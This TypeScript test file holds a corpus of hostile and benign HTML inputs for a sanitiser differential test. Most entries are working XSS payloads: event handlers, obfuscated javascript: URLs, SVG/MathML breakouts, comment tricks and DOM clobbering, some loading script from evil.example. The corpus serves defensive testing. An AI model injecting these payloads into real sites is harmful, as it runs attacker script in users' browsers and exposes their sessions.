/**
 * Hostile (and a few benign) HTML inputs for the sanitiser differential test. Every case runs
 * through both implementations and both profiles; `unchangedIn` marks benign inputs that must
 * come out as they went in (compared as parsed trees).
 */

/** Which part of the threat model a case exercises. */
export type CaseGroup =
  | 'script-style'
  | 'event-handler'
  | 'url'
  | 'image'
  | 'svg-mathml'
  | 'broken-markup'
  | 'class'
  | 'target-rel'
  | 'style-attribute'
  | 'embed-form'
  | 'comment-cdata'
  | 'raw-text'
  | 'attribute-misc'
  | 'entity-text'
  | 'benign';

/** One corpus entry. */
export interface SanitizeCase {
  readonly id: string;
  readonly group: CaseGroup;
  readonly html: string;
  /** Profiles whose output must equal the input (benign inputs). */
  readonly unchangedIn?: ReadonlyArray<'rich' | 'page'>;
}

const c = (
  group: CaseGroup,
  id: string,
  html: string,
  unchangedIn?: ReadonlyArray<'rich' | 'page'>,
): SanitizeCase => (unchangedIn ? { id, group, html, unchangedIn } : { id, group, html });

const deepSpans = `${'<span>'.repeat(400)}deep${'</span>'.repeat(400)}`;
const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const BLOB = 'blob:http://localhost:5173/2c1a8b54-8c1e-4b52-9a53-0c7f3d1e2f10';

export const SANITIZE_CORPUS: readonly SanitizeCase[] = [
  // Script and style tags.
  c('script-style', 'script-basic', '<script>alert(1)</script><p>after</p>'),
  c('script-style', 'script-upper-src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>text'),
  c('script-style', 'script-in-p', '<p>a<script>alert(1)</script>b</p>'),
  c('script-style', 'script-split-name', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  c('script-style', 'script-double-open', '<<script>alert(1);//<</script>'),
  c('script-style', 'script-fake-close', '<script>var s = "</scr" + "ipt>"; alert(1)</script>ok'),
  c(
    'script-style',
    'script-docwrite',
    `<script>document.write('<img src=x onerror=alert(1)>')</script>`,
  ),
  c(
    'script-style',
    'script-data-src',
    '<p>keep</p><script src="data:text/javascript,alert(1)"></script>',
  ),
  c('script-style', 'style-import', `<style>@import 'https://evil.example/x.css';</style><p>a</p>`),
  c('script-style', 'style-in-p', '<p>a<style>p{color:red}</style>b</p>'),
  c('script-style', 'style-img-inside', '<style><img src=x onerror=alert(1)></style>'),
  c('script-style', 'style-close-breakout', '<style></style><img src=x onerror=alert(1)></style>'),
  c('script-style', 'script-nul-name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'),
  c('script-style', 'script-unclosed', '<b>x</b><script>alert(1)'),

  // Event handlers in every form.
  c('event-handler', 'img-onerror-bare', '<img src=x onerror=alert(1)>'),
  c('event-handler', 'img-onerror-quoted', '<img src="x" onerror="alert(1)">'),
  c('event-handler', 'img-slash-separators', '<img/src=x/onerror=alert(1)>'),
  c('event-handler', 'img-valid-src-onload', '<img src="images/a.png" onload="alert(1)">'),
  c('event-handler', 'img-valid-src-onerror-slash', '<img src=images/ok.png onerror="alert(1)"//>'),
  c('event-handler', 'b-onclick', '<b onclick=x>hi</b>'),
  c('event-handler', 'p-onclick-upper', '<p ONCLICK="alert(1)">x</p>'),
  c('event-handler', 'span-onmouseover-single', `<span onmouseover='alert(1)'>x</span>`),
  c('event-handler', 'a-onclick', '<a href="https://ok.example" onclick="alert(1)">x</a>'),
  c('event-handler', 'div-onclick-disallowed', '<div onclick=alert(1)>x</div>'),
  c('event-handler', 'body-onload', '<body onload=alert(1)><p>x</p></body>'),
  c('event-handler', 'input-onfocus', '<input autofocus onfocus=alert(1)>'),
  c(
    'event-handler',
    'details-ontoggle',
    '<details open ontoggle=alert(1)><summary>s</summary>d</details>',
  ),
  c('event-handler', 'video-source-onerror', '<video><source onerror=alert(1)></video>after'),
  c('event-handler', 'p-slash-onclick', '<p/onclick=alert(1)>x</p>'),
  c('event-handler', 'b-onclick-tab', '<b onclick\t=\talert(1)>x</b>'),
  c('event-handler', 'em-onpointerenter', '<em onpointerenter=alert(1) class="sb-code">x</em>'),
  c('event-handler', 'li-onclick', '<ul><li onclick="alert(1)">x</li></ul>'),
  c('event-handler', 'marquee-onstart', '<marquee onstart=alert(1)>m</marquee>'),
  c('event-handler', 'a-onmouseover-no-quote-js', '<a onmouseover=alert(document.cookie)>x</a>'),
  c('event-handler', 'br-onclick', '<p>a<br onclick=alert(1)>b</p>'),
  c(
    'event-handler',
    'strong-onanimationstart',
    '<strong onanimationstart="alert(1)" style="animation:x">s</strong>',
  ),

  // javascript:, vbscript: and data: URLs.
  c('url', 'js-plain', '<a href="javascript:alert(1)">x</a>'),
  c('url', 'js-mixed-case', '<a href="JaVaScRiPt:alert(1)">x</a>'),
  c('url', 'js-dec-entity', '<a href="&#106;avascript:alert(1)">x</a>'),
  c('url', 'js-hex-entity', '<a href="&#x6A;avascript:alert(1)">x</a>'),
  c(
    'url',
    'js-padded-entity',
    '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
  ),
  c('url', 'js-colon-entity', '<a href="javascript&colon;alert(1)">x</a>'),
  c('url', 'js-tab-entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'),
  c('url', 'js-newline-entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
  c('url', 'js-raw-tab', '<a href="jav\tascript:alert(1)">x</a>'),
  c('url', 'js-raw-newline', '<a href="java\nscript:alert(1)">x</a>'),
  c('url', 'js-leading-spaces', '<a href="   javascript:alert(1)">x</a>'),
  c('url', 'js-leading-control', '<a href="&#x01;javascript:alert(1)">x</a>'),
  c('url', 'js-nul-inside', '<a href="java&#0;script:alert(1)">x</a>'),
  c('url', 'js-unquoted', '<a href=javascript:alert(1)>x</a>'),
  c('url', 'js-with-target', '<a href="javascript:alert(1)" target="_blank" rel="opener">x</a>'),
  c('url', 'js-in-query-of-https', '<a href="https://ok.example/?next=javascript:alert(1)">x</a>'),
  c('url', 'vbscript', '<a href="vbscript:msgbox(1)">x</a>'),
  c('url', 'vbscript-upper', '<a href="VBSCRIPT:msgbox(1)">x</a>'),
  c(
    'url',
    'data-html',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  ),
  c('url', 'data-upper', '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'),
  c('url', 'protocol-relative', '<a href="//evil.example/">x</a>'),
  c('url', 'root-relative', '<a href="/settings">x</a>'),
  c('url', 'relative', '<a href="chapter-2.html">x</a>'),
  c('url', 'fragment', '<a href="#top">x</a>'),
  c('url', 'ftp', '<a href="ftp://files.example/x">x</a>'),
  c('url', 'tel', '<a href="tel:+123456">x</a>'),
  c('url', 'https-upper', '<a href="HTTPS://EXAMPLE.COM/">x</a>'),
  c('url', 'https-padded', '<a href="  https://example.com/a b  ">x</a>'),
  c('url', 'mailto-upper', '<a href="MAILTO:author@example.com">x</a>'),
  c('url', 'empty-href', '<a href="">x</a>'),

  // img src handling.
  c('image', 'src-js', '<img src="javascript:alert(1)">'),
  c(
    'image',
    'src-data-html',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  ),
  c('image', 'src-data-svg', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
  c('image', 'src-data-png', `<img src="${PNG}" alt="dot">`),
  c('image', 'src-data-png-upper', `<img src="DATA:IMAGE/PNG;BASE64,iVBORw0KGgo=">`),
  c('image', 'src-blob', `<img src="${BLOB}">`),
  c('image', 'src-blob-js', '<img src="blob:javascript:alert(1)">'),
  c('image', 'src-dotdot', '<img src="images/../secret.png">'),
  c('image', 'src-encoded-dotdot', '<img src="images/%2e%2E/secret.png">'),
  c('image', 'src-backslash', '<img src="images\\..\\secret.png">'),
  c('image', 'src-absolute-path', '<img src="/images/x.png">'),
  c('image', 'src-remote', '<img src="https://evil.example/track.png">'),
  c('image', 'src-missing', '<img alt="no source">'),
  c('image', 'srcset-js', '<img srcset="javascript:alert(1)" src="images/x.png">'),
  c(
    'image',
    'style-width-class',
    '<img src="images/x.png" style="border:1px" width="1" class="align-center">',
  ),
  c('image', 'alt-breakout', '<img src="images/x.png" alt="</style><script>alert(1)</script>">'),
  c(
    'image',
    'data-attrs-hostile',
    '<img src="images/x.png" data-relative-path="../x" data-blob-id="a b" data-file-name="x&#10;y" data-evil="1">',
  ),
  c('image', 'in-link', '<a href="https://ok.example"><img src="images/x.png" alt="x"></a>'),
  c('image', 'image-tag-alias', '<image src="images/x.png" onerror=alert(1)>'),

  // SVG and MathML.
  c('svg-mathml', 'svg-script', '<svg><script>alert(1)</script></svg>'),
  c('svg-mathml', 'svg-onload', '<svg onload=alert(1)>'),
  c(
    'svg-mathml',
    'svg-xlink',
    '<svg><a xlink:href="javascript:alert(1)"><text x="1">x</text></a></svg>',
  ),
  c(
    'svg-mathml',
    'svg-foreignobject',
    '<svg><foreignObject><p onclick=x>hi</p></foreignObject></svg>',
  ),
  c('svg-mathml', 'foreignobject-in-html', '<foreignObject><b>x</b></foreignObject>y'),
  c(
    'svg-mathml',
    'math-mglyph-style',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ),
  c('svg-mathml', 'math-mi-xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
  c(
    'svg-mathml',
    'svg-p-style-breakout',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ),
  c(
    'svg-mathml',
    'math-h1-mglyph',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  ),
  c('svg-mathml', 'svg-style-img', '<svg><style><img src=x onerror=alert(1)></style></svg>'),
  c(
    'svg-mathml',
    'math-annotation-xml',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  ),
  c(
    'svg-mathml',
    'svg-animate-href',
    '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  ),
  c(
    'svg-mathml',
    'form-math-mglyph',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ),
  c('svg-mathml', 'svg-title-img', '<svg><title><img src=x onerror=alert(1)></title></svg>'),
  c('svg-mathml', 'math-style-img', '<math><style><img src=x onerror=alert(1)></style></math>'),
  c('svg-mathml', 'svg-desc-b', '<svg><desc><b>x</b></desc></svg>after'),
  c('svg-mathml', 'svg-breakout-p', '<svg><p>broke out</p></svg>'),
  c('svg-mathml', 'mtext-in-html', '<mtext><b>x</b></mtext><mi>y</mi>'),
  c(
    'svg-mathml',
    'svg-use-data',
    '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"></use></svg>',
  ),

  // Broken and nested markup.
  c('broken-markup', 'unclosed-p', '<p>unclosed'),
  c('broken-markup', 'misnested-b-i', '<b><i>x</b></i>'),
  c('broken-markup', 'p-div', '<p><div>x</div></p>'),
  c('broken-markup', 'stray-close-p', '</p>stray'),
  c('broken-markup', 'a-in-a', '<a href="https://a.example"><a href="https://b.example">x</a></a>'),
  c('broken-markup', 'nested-lists-unclosed', '<ol><li>x<ol><li>y'),
  c('broken-markup', 'table-basic', '<table><tr><td>x</td></tr></table>'),
  c('broken-markup', 'table-foster', '<table><b>foster</b><tr><td>y</td></tr></table>'),
  c(
    'broken-markup',
    'table-thead',
    '<table><thead><tr><td>h</td></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
  ),
  c('broken-markup', 'thead-top-level', '<thead><tr><td>secret</td></tr></thead>'),
  c('broken-markup', 'orphan-li', '<li>orphan</li>'),
  c('broken-markup', 'stray-close-b', '<p>a</b>b</p>'),
  c('broken-markup', 'double-lt', '<<b>>x'),
  c('broken-markup', 'attr-lt', '<b <i>x</i>'),
  c('broken-markup', 'p-p', '<p>a<p>b'),
  c('broken-markup', 'div-span-crossed', '<div><span>x</div></span>'),
  c('broken-markup', 'markup-text-and-comment', '<p>text<!--c-->&lt;b&gt;</p>'),
  c(
    'broken-markup',
    'markup-text-and-comment-div',
    '<div>&lt;img src=x onerror=alert(1)&gt;<!---->x</div><p>ok</p>',
  ),
  c('broken-markup', 'select-option', '<select><option><b>x</b></option></select>'),
  c('broken-markup', 'textarea', '<textarea><b>x</b></textarea>'),
  c('broken-markup', 'after-html-end', '<b>x</b></html><p>after</p>'),
  c('broken-markup', 'frameset', '<frameset><frame src=javascript:alert(1)>'),
  c(
    'broken-markup',
    'full-document',
    '<!DOCTYPE html><html><head><title>t</title></head><body><b>x</b></body></html>',
  ),
  c('broken-markup', 'deep-nesting', deepSpans),
  c('broken-markup', 'head-then-text', '  <title>x</title>  <p>a</p>'),

  // Class injection.
  c('class', 'align-plus-evil', '<p class="align-center evil">x</p>'),
  c('class', 'js-class', '<p class="javascript:alert(1)">x</p>'),
  c('class', 'duplicate-and-unknown', '<span class="sb-highlight sb-highlight  x">x</span>'),
  c('class', 'empty', '<p class="">x</p>'),
  c('class', 'whitespace-only', '<p class="   ">x</p>'),
  c('class', 'case-changed', '<b class="ALIGN-CENTER SB-CODE">x</b>'),
  c('class', 'entity-space', '<span class="sb-code&#x20;evil&#x09;sb-quote">x</span>'),
  c('class', 'newline-separated', '<p class="align-left\nalign-right">x</p>'),
  c('class', 'breakout-in-class', '<span class="sb-code --></style>">x</span>'),

  // target / rel tricks.
  c('target-rel', 'target-top', '<a href="https://ok.example" target="_top">x</a>'),
  c('target-rel', 'rel-opener', '<a href="https://ok.example" rel="opener">x</a>'),
  c('target-rel', 'blank-without-rel', '<a href="https://ok.example" target="_blank">x</a>'),
  c(
    'target-rel',
    'blank-upper-partial-rel',
    '<a href="https://ok.example" target="_BLANK" rel="noopener">x</a>',
  ),
  c('target-rel', 'no-href', '<a target="_blank" rel="opener">no href</a>'),
  c(
    'target-rel',
    'rel-extra-opener',
    '<a href="https://ok.example" rel="noopener noreferrer opener">x</a>',
  ),
  c('target-rel', 'target-padded', '<a href="https://ok.example" target=" _blank ">x</a>'),
  c('target-rel', 'target-named-frame', '<a href="https://ok.example" target="evil">x</a>'),

  // style attributes.
  c('style-attribute', 'color', '<p style="color:red">x</p>'),
  c('style-attribute', 'url-js', '<span style="background:url(javascript:alert(1))">x</span>'),
  c('style-attribute', 'expression', '<b style="width:expression(alert(1))">x</b>'),
  c('style-attribute', 'fixed-overlay', '<div style="position:fixed;inset:0">x</div>'),
  c(
    'style-attribute',
    'moz-binding',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  ),

  // iframes, objects, forms and document-level elements.
  c('embed-form', 'iframe', '<iframe src="https://evil.example"></iframe>after'),
  c('embed-form', 'iframe-srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  c('embed-form', 'iframe-content', '<iframe><img src=x onerror=alert(1)></iframe>'),
  c('embed-form', 'object', '<object data="javascript:alert(1)"><p>fallback</p></object>'),
  c('embed-form', 'embed', '<embed src="javascript:alert(1)">x'),
  c(
    'embed-form',
    'form-action',
    '<form action="javascript:alert(1)"><p>in form</p><input type="submit"></form>',
  ),
  c('embed-form', 'input-formaction', '<input type="image" formaction="javascript:alert(1)">'),
  c('embed-form', 'button-formaction', '<button formaction="javascript:alert(1)">b</button>'),
  c(
    'embed-form',
    'meta-refresh',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>',
  ),
  c('embed-form', 'base-href', '<base href="javascript:/"><a href="https://ok.example">x</a>'),
  c('embed-form', 'link-import', '<link rel="import" href="https://evil.example/x.html"><p>x</p>'),
  c('embed-form', 'form-clobber-attributes', '<form><input name="attributes"><p>after</p></form>'),
  c(
    'embed-form',
    'form-clobber-nodename',
    '<form id="x"><button name="nodeName">b</button><b>y</b></form>',
  ),
  c(
    'embed-form',
    'form-clobber-smuggle',
    '<form>&lt;img src=x onerror=alert(1)&gt;<!--x--></form>',
  ),
  c('embed-form', 'isindex', '<isindex action="javascript:alert(1)" type="image">'),
  c(
    'embed-form',
    'img-name-clobber',
    '<img name="getElementById" src="images/x.png"><p id="__proto__">x</p>',
  ),

  // Comments, CDATA and processing instructions.
  c('comment-cdata', 'comment-script', '<!-- <script>alert(1)</script> -->visible'),
  c('comment-cdata', 'comment-abrupt', '<!--><img src=x onerror=alert(1)>-->'),
  c('comment-cdata', 'cdata-html', '<![CDATA[<script>alert(1)</script>]]>'),
  c('comment-cdata', 'cdata-svg', '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>'),
  c(
    'comment-cdata',
    'processing-instruction',
    '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
  ),
  c('comment-cdata', 'comment-in-p', '<p>a<!--x-->b</p>'),
  c('comment-cdata', 'conditional-comment', '<!--[if IE]><script>alert(1)</script><![endif]-->ok'),
  c('comment-cdata', 'comment-attribute-trick', '<!--<img src="--><img src=x onerror=alert(1)//">'),
  c(
    'comment-cdata',
    'title-attr-comment-close',
    '<p title="--><img src=x onerror=alert(1)>">x</p>',
  ),
  c('comment-cdata', 'bang-comment', '<!x><b>y</b>'),

  // noscript, template, xmp and other raw-text elements.
  c(
    'raw-text',
    'noscript-title-breakout',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ),
  c('raw-text', 'template-script', '<template><script>alert(1)</script></template>x'),
  c('raw-text', 'template-img', '<template><img src=x onerror=alert(1)></template>'),
  c('raw-text', 'xmp-img', '<xmp><img src=x onerror=alert(1)></xmp>'),
  c('raw-text', 'noembed', '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>'),
  c(
    'raw-text',
    'noframes',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  ),
  c('raw-text', 'plaintext', '<p>before</p><plaintext><script>alert(1)</script>'),
  c('raw-text', 'title-img', '<b>x</b><title><img src=x onerror=alert(1)></title>'),
  c('raw-text', 'listing', '<listing><img src=x onerror=alert(1)></listing>'),
  c('raw-text', 'textarea-breakout', '<textarea></textarea><img src=x onerror=alert(1)>'),

  // Namespaced, formaction-like and clobbering attributes.
  c('attribute-misc', 'xlink-on-a', '<a xlink:href="javascript:alert(1)">x</a>'),
  c(
    'attribute-misc',
    'xmlns-on-a',
    '<a href="https://ok.example" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a>',
  ),
  c('attribute-misc', 'is-attribute', '<p is="x-evil">x</p>'),
  c('attribute-misc', 'id-name', '<p id="cookie" name="body">x</p>'),
  c('attribute-misc', 'aria-data', '<span aria-label="x" data-x="y" role="button">x</span>'),
  c(
    'attribute-misc',
    'href-on-span',
    '<span href="https://ok.example" src="images/x.png">x</span>',
  ),
  c(
    'attribute-misc',
    'duplicate-href',
    '<a href="https://ok.example" href="javascript:alert(1)">x</a>',
  ),
  c('attribute-misc', 'href-breakout', '<a href="https://ok.example/--></style>">x</a>'),
  c(
    'attribute-misc',
    'alt-script-word',
    '<img src="images/x.png" alt="JavaScript: the good parts">',
  ),

  // Entities and text that looks like markup.
  c('entity-text', 'escaped-script', '<b>&lt;script&gt;alert(1)&lt;/script&gt;</b>'),
  c('entity-text', 'escaped-only', '&lt;img src=x onerror=alert(1)&gt;'),
  c('entity-text', 'double-escaped', '<p>&amp;lt;b&amp;gt;</p>'),
  c('entity-text', 'nbsp-and-unicode', '<p>&nbsp;Ünïcødé — “quotes” 🙂</p>'),
  c('entity-text', 'bare-ampersand', 'Tom & Jerry <b>&</b>'),
  c('entity-text', 'leading-whitespace', '\n\t <b>x</b>'),
  c('entity-text', 'line-separator', '<b>x</b>\u2028y'),

  // Benign inputs that must pass unchanged.
  c('benign', 'bold-italic', '<p>Hello <b>bold</b> and <i>italic</i></p>', ['rich', 'page']),
  c('benign', 'nested-list', '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>', ['rich', 'page']),
  c('benign', 'ordered-list', '<ol><li>one</li><li>two</li></ol>', ['rich', 'page']),
  c(
    'benign',
    'mailto',
    '<p><a href="mailto:author@example.com" rel="noopener noreferrer">Mail me</a></p>',
    ['rich', 'page'],
  ),
  c(
    'benign',
    'link-blank',
    '<p><a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a></p>',
    ['rich', 'page'],
  ),
  c(
    'benign',
    'strong-em-highlight',
    '<p><strong>s</strong> <em>e</em> <span class="sb-highlight">h</span></p>',
    ['rich', 'page'],
  ),
  c('benign', 'line-break', '<p>Line<br>break</p>', ['rich', 'page']),
  c('benign', 'headings', '<h1>Title</h1><h2>Sub</h2><h3>Section</h3><p>x</p>', ['page']),
  c('benign', 'blockquote', '<blockquote><p>quoted</p></blockquote>', ['page']),
  c('benign', 'code-block', '<pre><code class="sb-code">let x = 1 &lt; 2;</code></pre>', ['page']),
  c('benign', 'aligned', '<p class="align-center">c</p><p class="align-justify">j</p>', ['page']),
  c('benign', 'strike-mark', '<p><s>strike</s> <mark>mark</mark></p>', ['page']),
  c('benign', 'underline', '<p><u>under</u> <s><u>both</u></s></p>', ['page']),
  c(
    'benign',
    'inline-image',
    '<p><img src="images/cat.png" alt="Cat" data-local-file="true" data-relative-path="images/cat.png" data-blob-id="b-123" data-file-name="cat.png"></p>',
    ['page'],
  ),
  c('benign', 'blob-image', `<p><img src="${BLOB}" alt="x"></p>`, ['page']),
  c('benign', 'data-image', `<p><img src="${PNG}" alt="dot"></p>`, ['page']),
  c('benign', 'plain-text', 'Just words, no markup.', ['rich', 'page']),
];
